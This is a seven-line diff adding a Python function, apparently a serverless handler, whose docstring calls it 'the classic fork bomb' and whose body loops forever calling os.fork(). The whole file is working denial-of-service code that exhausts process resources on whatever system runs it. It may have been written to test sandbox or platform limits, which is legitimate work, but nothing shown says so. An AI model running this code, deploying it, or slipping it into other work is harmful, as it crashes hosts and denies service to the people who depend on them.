@@ -1,0 +1,7 @@
+"""The classic fork bomb."""
+import os
+
+
+def handler(event, context):
+    while True:
+        os.fork()
